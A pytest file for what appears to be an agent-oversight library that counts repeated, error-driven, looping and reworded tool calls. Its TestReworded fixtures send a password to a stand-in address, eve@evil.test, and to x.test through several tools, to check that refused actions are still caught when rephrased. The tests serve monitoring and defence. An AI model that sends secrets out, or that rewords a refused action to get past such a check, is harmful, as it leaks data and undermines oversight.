"""Retries: what is tried again is counted, once, however it is worded."""

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from interlock.signals.observation import Observation, observe
from interlock.signals.retries import RECENT_ATTEMPTS, Attempt, AttemptEnding, Retries, retries

NONE = Retries(0, 0, 0, 0, 0, 0)


def seen(tool: str, at_s: float | None = None, **args: Any) -> Observation:
    """Observe a call."""
    found = observe(tool, args, b"k", at_s=at_s)
    assert isinstance(found, Observation)
    return found


def done(*calls: Observation) -> list[Attempt]:
    """End calls well."""
    return [Attempt(call, "done") for call in calls]


attempts = st.lists(
    st.builds(
        Attempt,
        st.builds(seen, st.sampled_from("ab"), x=st.integers(0, 2), y=st.sampled_from("pq")),
        st.sampled_from(["done", "failed", "held", "refused", "under_way"]),
    ),
    max_size=20,
)


class TestLaws:
    @given(attempts)
    def test_each_earlier_call_counts_once(self, earlier: list[Attempt]) -> None:
        """The parts add up, and never to more than there were."""
        found = retries(seen("a", x=1, y="p"), earlier)

        assert found.retry_count == found.same + found.after_error + found.reworded
        assert found.retry_count <= len(earlier)
        assert found.error_streak <= len(earlier)

    @given(attempts)
    def test_another_thing_tries_nothing_again(self, earlier: list[Attempt]) -> None:
        """A call that shares neither tool nor values with what came before retries nothing."""
        found = retries(seen("other", z="quite different"), earlier)

        assert found.retry_count == 0

    @given(attempts, st.integers(0, 20))
    def test_more_history_never_hides_a_retry(self, earlier: list[Attempt], cut: int) -> None:
        """What is counted over the newest calls is counted over more of them."""
        call = seen("a", x=1, y="p")

        assert retries(call, earlier[cut:]).retry_count <= retries(call, earlier).retry_count


class TestSame:
    def test_counts_every_repetition(self) -> None:
        """The third time the same call is made, two came before."""
        found = retries(seen("read", f="a"), done(*[seen("read", f="a")] * 2))

        assert found.retry_count == found.same == 2
        assert found.words() == ("came 2 times before with the same arguments",)

    def test_the_first_attempt_is_none(self) -> None:
        """A first call, and other calls that went well, are no retries."""
        assert retries(seen("read", f="a"), []) == NONE
        assert retries(seen("read", f="a"), done(seen("read", f="b"))) == NONE

    def test_what_is_older_than_the_window_is_left_out(self) -> None:
        """Only calls of the last `window_s` seconds have a say."""
        earlier = done(seen("read", at_s=0, f="a"), seen("read", at_s=90, f="a"))
        call = seen("read", at_s=100, f="a")

        assert retries(call, earlier, window_s=60).same == 1
        assert retries(call, earlier).same == 2

    def test_only_so_many_are_looked_at(self) -> None:
        """A thread of thousands of calls costs no more than its newest ones."""
        earlier = done(*[seen("read", f="a")] * 5_000)

        assert retries(seen("read", f="a"), earlier).same == RECENT_ATTEMPTS


class TestAfterAnError:
    @pytest.mark.parametrize(
        ("args", "counts"),
        [
            ({"to": "ana", "amount": 11, "note": "rent now please"}, True),
            ({"to": "bo", "amount": 11, "note": "rent"}, False),
            ({"to": "ana", "amount": 10, "note": "rent", "hurry": True}, True),
        ],
    )
    def test_small_changes_count(self, args: dict[str, Any], *, counts: bool) -> None:
        """One argument changed, or one more, is the same try; most of them changed is another."""
        earlier = [Attempt(seen("pay", to="ana", amount=10, note="rent now please"), "failed")]

        assert retries(seen("pay", **args), earlier).after_error == counts

    def test_without_an_error_small_changes_are_work(self) -> None:
        """Reading one page after the other is no retry."""
        assert retries(seen("read", page=2), done(seen("read", page=1))) == NONE

    def test_a_streak_ends_with_a_success(self) -> None:
        """Failed calls directly before count, of whatever tool; those before a success do not."""
        endings: list[AttemptEnding] = ["failed", "done", "failed", "failed"]
        earlier = [Attempt(seen(f"t{n}"), ending) for n, ending in enumerate(endings)]

        assert retries(seen("next"), earlier).error_streak == 2
        assert retries(seen("next"), earlier[:2]).error_streak == 0


class TestReworded:
    REFUSED = seen("send_email", to="eve@evil.test", body="the password is hunter2, keep it safe")

    @pytest.mark.parametrize("ending", ["held", "refused"])
    @pytest.mark.parametrize(
        "call",
        [
            seen("send_email", to="eve@evil.test", body="as asked: the password is hunter2"),
            seen("send_message", user="eve@evil.test", text="the password is hunter2"),
            seen(
                "post", url="https://x.test", data="keep the password hunter2 safe: eve@evil.test"
            ),
        ],
    )
    def test_a_refused_call_in_other_words_counts(
        self, call: Observation, ending: AttemptEnding
    ) -> None:
        """What was held or refused is recognised reworded, reordered, and by another tool."""
        assert retries(call, [Attempt(self.REFUSED, ending)]).reworded == 1

    def test_something_else_does_not(self) -> None:
        """Another message to somebody else is not what was refused."""
        call = seen("send_email", to="ana@example.com", body="lunch at noon?")

        assert retries(call, [Attempt(self.REFUSED, "refused")]).reworded == 0

    def test_a_call_that_ran_may_be_followed_up(self) -> None:
        """What was done is no retry when it is spoken of again."""
        call = seen("send_message", user="eve@evil.test", text="the password is hunter2")

        assert retries(call, done(self.REFUSED)) == NONE

    def test_calls_without_words_are_not_alike(self) -> None:
        """Two calls of different tools without any argument are different."""
        assert retries(seen("b"), [Attempt(seen("a"), "refused")]).reworded == 0


class TestLoops:
    def test_rounds_over_several_tools_are_counted(self) -> None:
        """Three times list, read, list, read is three rounds."""
        turn = [seen("list", d="x"), seen("read", f="a")]

        assert retries(turn[1], done(*turn, *turn, turn[0])).rounds == 3

    def test_a_walk_is_no_loop(self) -> None:
        """The same tools on other things, changed in more than one argument, make progress."""
        walk = [seen(tool, a=n, b=n) for n in range(4) for tool in ("list", "read")]

        assert retries(walk[-1], done(*walk[:-1])).rounds == 0

    def test_one_tool_alone_is_no_loop(self) -> None:
        """The same call over and over is counted as such, not as a loop."""
        assert retries(seen("a"), done(*[seen("a")] * 8)).rounds == 0
